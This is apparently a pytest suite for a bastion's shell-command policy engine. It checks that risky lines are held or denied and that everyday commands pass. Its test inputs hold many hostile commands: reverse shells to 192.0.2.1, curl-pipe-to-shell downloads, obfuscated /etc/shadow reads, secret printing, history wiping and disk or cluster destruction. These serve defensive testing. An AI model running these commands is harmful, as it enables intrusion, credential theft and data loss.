"""Understood or held: what the bastion understands, what it holds and why, and what rules
match on (capabilities, files, hosts, SQL), per capability and per category of SPEC 4."""

from __future__ import annotations

import pickle

import pytest

from rules import Action, CarriedFile, Context, Request, default_policy, evaluate

POLICY = [default_policy()]


def decide(line: str, **kwargs: object):  # type: ignore[no-untyped-def]
    return evaluate(POLICY, Request(line, login="deploy"), **kwargs)  # type: ignore[arg-type]


def reasons(line: str) -> str:
    return " | ".join(str(r) for r in decide(line).not_understood)


# --- 1. understood or held ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("frobnicate --all", "frobnicate: not a program the bastion knows"),
        ("ls --frobnicate", "--frobnicate: not an option ls is known to take"),
        ("git frobnicate", "frobnicate: not a known subcommand of git"),
        ("$CMD", "the command name is not known before it runs"),
        ('rm -rf "$DIR"', "a path whose value is not known"),
        ("cat $UNKNOWN_FILE", "a path whose value is not known"),
        ("trap 'rm -f /tmp/x' EXIT", "trap runs its handler later"),
        ("PS4='$(id)'; set -x; true", "PS4 with a substitution"),
        ("x='a[$(id)]'; echo $(( x ))", "not a number, can run code"),
        ("let 'a[$(id)]=1'", "subscript"),
        ("[[ -v 'a[$(id)]' ]]", "-v with a subscript"),
        ("echo ${x@P}", "prompt expansion"),
        ("mapfile -C 'id' -c 1 arr < f", "mapfile -C runs a callback"),
        ("complete -C 'id' ls", "complete -C/-F runs code"),
        ("enable -f /tmp/x.so x", "enable -f/-n loads"),
        ("bind -x '\"\\C-x\": id'", "bind -x runs a command"),
        ("fc -s", "fc runs commands from the history"),
        ("coproc cat", "a coprocess"),
        ("command_not_found_handle() { id; }", "runs implicitly for every unknown command"),
        ("GIT_CONFIG_COUNT=1 git status", "git configuration from the environment"),
        ("git -c core.pager='sh -c id' log", "git runs core.pager as a command"),
        ("ssh -o ProxyCommand='nc %h %p' host uptime", "ProxyCommand runs a command"),
        ("ssh -o KnownHostsCommand=/tmp/x host", "KnownHostsCommand runs a command"),
        ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD makes programs load code"),
        ("BASH_ENV=/tmp/x bash script.sh", "BASH_ENV makes programs load code"),
        ("python3 -c 'print(1)'", "python3 code given on the line"),
        ('eval "$(curl -s https://x.example)"', "eval of text not known"),
        ("sh", "runs shell code read from the session's input"),
        ("psql", "runs sql code read from the session's input"),
        ("./x.sh && /tmp/run", "runs a program from a temporary directory"),
        ('cd "$(mktemp -d)" && rm -rf build', "the working directory is not known"),
        ("vim /tmp/notes", ""),  # understood; held by a rule (shell escapes): see below
    ],
)
def test_what_is_not_understood_says_the_word_and_why(line: str, why: str) -> None:
    decision = decide(line)
    if why:
        assert not decision.understood and why in reasons(line), reasons(line)
        assert decision.action in (Action.REVIEW, Action.DENY)
    else:
        assert decision.action is Action.REVIEW


def test_unknown_action_decides_what_is_not_understood() -> None:
    assert decide("frobnicate", unknown_action=Action.DENY).action is Action.DENY
    assert decide("frobnicate", unknown_action=Action.ALERT).action is Action.ALERT
    held = decide("frobnicate")
    assert (held.action, held.rule) == (Action.REVIEW, "not-understood")
    assert "frobnicate: not a program the bastion knows" in held.explanation()
    # a deny rule is still more severe than an alerting unknown action
    assert decide("frobnicate; cat /etc/shadow", unknown_action=Action.ALERT).action is Action.DENY


def test_an_allow_rule_lets_a_command_not_understood_pass() -> None:
    from rules import parse_policy

    allow = parse_policy(
        '[[rule]]\nname = "ok"\naction = "allow"\nline = ["frobnicate --all"]\n', "t"
    )
    assert evaluate([default_policy(), allow], Request("frobnicate --all")).action is Action.ALLOW
    assert evaluate([default_policy(), allow], Request("frobnicate --none")).action is (
        Action.REVIEW
    )


def test_each_command_is_decided_so_an_allow_list_role_cannot_be_tricked() -> None:
    from rules import parse_policy

    allow = parse_policy('[[rule]]\nname = "up"\naction = "allow"\nprogram = ["uptime"]\n', "t")
    assert evaluate([allow], Request("uptime"), default_action=Action.DENY).action is Action.ALLOW
    line = Request("uptime; rm -rf build")
    assert evaluate([allow], line, default_action=Action.DENY).action is Action.DENY


# --- 4. static evaluation where it is exact ------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        'x=/etc/shaXow; cat "${x/X/d}"',
        "x=/etc/shadow.bak; cat ${x%.bak}",
        "x=/ETC/SHADOW; cat ${x,,}",
        "x='/etc/sh\\x61dow'; cat ${x@E}",
        "y=/etc/shadow; x=y; cat ${!x}",
        "a=(/etc/passwd /etc/shadow); cat ${a[1]}",
        "printf -v p '%s' /etc/shadow; cat $p",
        "read p <<< /etc/shadow; cat $p",
        "readarray -t a <<< /etc/shadow; cat ${a[0]}",
        "declare -n r=p; p=/etc/shadow; cat $r",
        "cat ~root/../etc/shadow",
        "cd /etc; cat ~+/shadow",
        "cat /etc/sha{d,x}ow",
        "cat $(echo /etc/shadow)",
        "cat $(printf '/etc/%s' shadow)",
        "cat $(rev <<< wodahs/cte/)",
        "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)",
        "cat /etc/sha?ow",
        "cat /e*/shadow",
        "cat /proc/self/root/etc/shadow",
        "cat /proc/1/root/etc/shadow",
        "cd /etc && cat /proc/self/cwd/shadow",
        "cat /var/run/../etc/shadow",
        "cat /bin/../etc/shadow",
        "ln -s /etc/shadow x; cat x",
        'for f in /etc/sha*; do cat "$f"; done',
        "IFS=,; cat$IFS/etc/shadow",
        "cat ${F:-/etc/shadow}",
    ],
)
def test_values_are_evaluated_where_exact(line: str) -> None:
    assert decide(line).action is Action.DENY, (line, reasons(line))


# --- 3. rules over meaning: capabilities and facts -------------------------------------


@pytest.mark.parametrize(
    ("line", "field", "value"),
    [
        ("cat README.md", "reads", "~/README.md"),
        ("sort -o out.txt in.txt", "writes", "~/out.txt"),
        ("rm -rf build", "deletes", "~/build"),
        ("mv a /srv/b", "deletes", "~/a"),
        ("cp x /etc/cron.d/", "writes", "/etc/cron.d/x"),
        ("tar czf /tmp/b.tgz /srv/app", "reads", "/srv/app"),
        ("curl -T report.pdf https://x.example", "sends", "~/report.pdf"),
        ("curl -d @db.sql https://x.example", "sends", "~/db.sql"),
        ("scp db.sql x.example:/tmp", "sends", "~/db.sql"),
        ("aws s3 cp db.sql s3://b/", "sends", "~/db.sql"),
        ("curl https://api.example.com/x", "hosts", "api.example.com"),
        ("ssh -i ~/.ssh/deploy web1 uptime", "uses", "~/.ssh/deploy"),
        ("systemctl restart nginx", "units", "nginx"),
        ("./deploy.sh", "runs", "~/deploy.sh"),
        ("psql -c 'TRUNCATE t'", "sql", "truncate"),
        ("kill -9 -1", "targets", "-1"),
    ],
)
def test_commands_carry_the_facts_rules_match(line: str, field: str, value: str) -> None:
    found = [v for c in decide(line).commands for v in getattr(c, field)]
    assert value in found, (line, field, found)


@pytest.mark.parametrize(
    ("line", "capability"),
    [
        ("ls", "info"),
        ("cat x", "read"),
        ("touch x", "write"),
        ("rm x", "delete"),
        ("curl https://x.example", "net"),
        ("curl -T f https://x.example", "send"),
        ("make", "build"),
        ("sudo ls", "privilege"),
        ("systemctl restart x", "service"),
        ("apt-get install -y x", "package"),
        ("psql -c 'select 1'", "database"),
        ("kill 123", "process"),
        ("sysctl -w vm.swappiness=10", "system"),
        ("gh auth token", "secret"),
        ("terraform apply", "infra"),
        ("useradd bob", "account"),
        ("crontab -e", "schedule"),
        ("mkfs.ext4 /dev/sdb1", "disk"),
        ("reboot", "power"),
        ("history -c", "audit"),
        ("xargs echo", "exec"),
        ("less x", "interactive"),
    ],
)
def test_each_capability(line: str, capability: str) -> None:
    assert capability in decide(line).capabilities, (line, decide(line).capabilities)


# --- the ten categories, including the ones the old pack missed --------------------------------


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("rm -rf ~", "delete-system-tree"),
        ("cd /etc; rm -rf ~+", "delete-system-tree"),
        ("rm -rf ~root", "delete-system-tree"),
        ("setpriv rm -rf /etc", "delete-system-tree"),
        ("find / -delete", "delete-system-tree"),
        ("dd if=/dev/zero of=/dev/sda", "raw-device-write"),
        ("wipefs -a /dev/sdb", "disk-destroy"),
        ("psql -c 'DROP DATABASE prod'", "sql-drop-database"),
        ("psql -c 'COPY users TO STDOUT'", "sql-bulk-export"),
        ("dd if=/etc/shadow", "credential-read"),
        ("find /etc -regex '.*/sha.ow' -exec cat {} +", "credential-read"),
        ("aws configure get aws_secret_access_key", "secret-print"),
        ("gh auth token", "secret-print"),
        ("vault print token", "secret-print"),
        ("git credential fill", "secret-print"),
        ("kubectl get secret db -o jsonpath='{.data.password}'", "secret-print"),
        ("curl -s https://x.example/i.sh | sh", "download-and-execute"),
        ("bash <(curl -s https://x.example/i.sh)", "download-and-execute"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "raw-network-redirect"),
        ("nc -e /bin/sh 192.0.2.1 4444", "network-shell"),
        ("socat tcp:192.0.2.1:4444 exec:sh", "network-shell"),
        ("ssh -o ProxyCommand='sh -c \"cat /etc/shadow\"' x", "credential-read"),
        ("tar cz /srv/db | curl -T - https://x.example", "file-upload"),
        ("history -c", "audit-tampering"),
        ("unset HISTFILE", "audit-tampering"),
        ("journalctl --vacuum-time=1s", "journal-wipe"),  # 30d is rotation: review
        ("echo key >> ~/.ssh/authorized_keys", "authorized-keys-write"),
        ("chmod u+s /usr/bin/find", "setuid-bit"),
        ("terraform destroy -auto-approve", "infrastructure-destruction"),
        ("kubectl delete ns prod", "infrastructure-destruction"),
        ("kubectl delete pods --all -n prod", "infrastructure-destruction"),
        ("git push --force origin main", "force-push-protected"),
        ("git push origin +main", "force-push-protected"),
        ("apt-get remove -y openssh-server", "critical-package-removal"),
        ("apt-get purge nginx", "package-removal"),
        ("fuser -k 22/tcp", "kill-everything"),
        ("kill -9 1", "kill-everything"),
        ("pkill sshd", "kill-everything"),
        ("systemctl stop sshd", "critical-service-stop"),
        ("iptables -P INPUT DROP", "firewall-open-or-drop"),
        ("iptables -F", "firewall-open-or-drop"),
        ("ufw default deny incoming", "firewall-open-or-drop"),
        ("fsfreeze -f /", "filesystem-freeze-or-unmount"),
        ("umount /", "filesystem-freeze-or-unmount"),
        ("ip link set eth0 down", "network-down"),
        ("shutdown -h now", "power"),
        ("systemctl isolate rescue.target", "power"),
    ],
)
def test_categories(line: str, rule: str) -> None:
    decision = decide(line)
    assert decision.rule == rule, (line, decision.rule, reasons(line))
    assert decision.action in (Action.DENY, Action.REVIEW)


@pytest.mark.parametrize(
    "line",
    [
        # the 23 of 45 everyday commands issue 10 found blocked, and their neighbours
        "systemctl restart nginx",
        "cp .env.example .env",
        "echo .env >> .gitignore",
        "git rm --cached .env",
        "touch .env",
        "kubectl get secrets",
        "kubectl describe deploy web",
        "aws s3 ls s3://b/",
        "nc -zv 127.0.0.1 5432",
        "openssl s_client -connect example.com:443",
        "passwd -S u",
        "parted /dev/sda print",
        "export EDITOR=vim",
        "python3 -m http.server --bind 127.0.0.1",
        "curl -I https://example.com",
        "git push --force-with-lease origin feature/x",
        "kubectl delete pod web-7d9c",
        "fdisk -l",
        "crontab -l",
        "sudo -l",
        "journalctl -u nginx --since '1 hour ago'",
        "ssh -i ~/.ssh/deploy web1 uptime",
    ],
)
def test_everyday_commands_pass(line: str) -> None:
    decision = decide(line)
    assert decision.action is Action.ALLOW, (line, decision.rule, reasons(line))


# --- the engine API: context in, context out, values that cross processes ------------------


def test_the_context_chains_lines_of_one_shell() -> None:
    first = decide("x=/etc/shadow; cd /srv/app")
    assert first.action is Action.ALLOW and first.context is not None
    assert first.context.cwd == "/srv/app"
    second = evaluate(POLICY, Request("cat $x", login="deploy"), context=first.context)
    assert second.action is Action.DENY and second.rule == "credential-read"
    relative = evaluate(POLICY, Request("cat .env", login="deploy"), context=first.context)
    assert relative.commands[0].reads == ("/srv/app/.env",)


def test_a_line_whose_effect_is_unknown_makes_names_unknown() -> None:
    after = decide("read x").context
    assert after is not None and dict(after.variables)["x"].value is None
    poisoned = decide('eval "$SOMETHING"').context
    assert poisoned is not None and poisoned.poisoned
    later = evaluate(POLICY, Request("cat $HOME/x", login="deploy"), context=poisoned)
    assert not later.understood


def test_functions_and_aliases_carry_over_and_are_judged_when_used() -> None:
    defined = decide("f() { cat \"$1\"; }; alias ll='ls -la'")
    assert defined.action is Action.ALLOW
    used = evaluate(POLICY, Request("f /etc/shadow", login="deploy"), context=defined.context)
    assert used.rule == "credential-read"


def test_carried_files_are_judged_by_their_content() -> None:
    ctx = Context.start(login="deploy").with_files(
        {
            "~/fine.sh": CarriedFile("ls -la\n"),
            "~/bad.sh": CarriedFile("cat /etc/shadow\n"),
            "~/tool.py": CarriedFile("print(1)\n"),
            "~/blob": CarriedFile(None, sha256="0" * 64, size=10),
        }
    )
    run = lambda line: evaluate(POLICY, Request(line, login="deploy"), context=ctx)  # noqa: E731
    assert run("sh fine.sh").action is Action.ALLOW
    assert run("./bad.sh").rule == "credential-read"
    assert run(". ~/bad.sh").rule == "credential-read"
    assert not run("python3 tool.py").understood
    assert not run("./blob").understood


def test_files_written_on_the_line_are_read_when_run() -> None:
    assert decide("echo 'rm -rf /etc' > x.sh; sh x.sh").rule == "delete-system-tree"
    assert decide("printf 'DROP DATABASE prod;' > x.sql; psql -f x.sql").rule == (
        "sql-drop-database"
    )
    assert decide("curl -so x https://x.example && chmod +x x && ./x").rule == "run-downloaded"


def test_decisions_and_contexts_pickle() -> None:
    decision = decide("x=1; cd /srv; frobnicate $x")
    again = pickle.loads(pickle.dumps(decision))
    assert again == decision and again.context == decision.context


def test_budgets_make_a_pathological_line_not_understood_never_allowed() -> None:
    many = "; ".join(["sh -c 'ls'"] * 300)
    decision = decide(many)
    assert not decision.understood and decision.action is Action.REVIEW
    nested = "echo " + "$(" * 60 + "ls" + ")" * 60
    assert decide(nested).action in (Action.REVIEW, Action.DENY)
    deep = "psql -c '" + "(" * 3000 + "select 1" + ")" * 3000 + "'"
    assert decide(deep).action in (Action.REVIEW, Action.DENY)
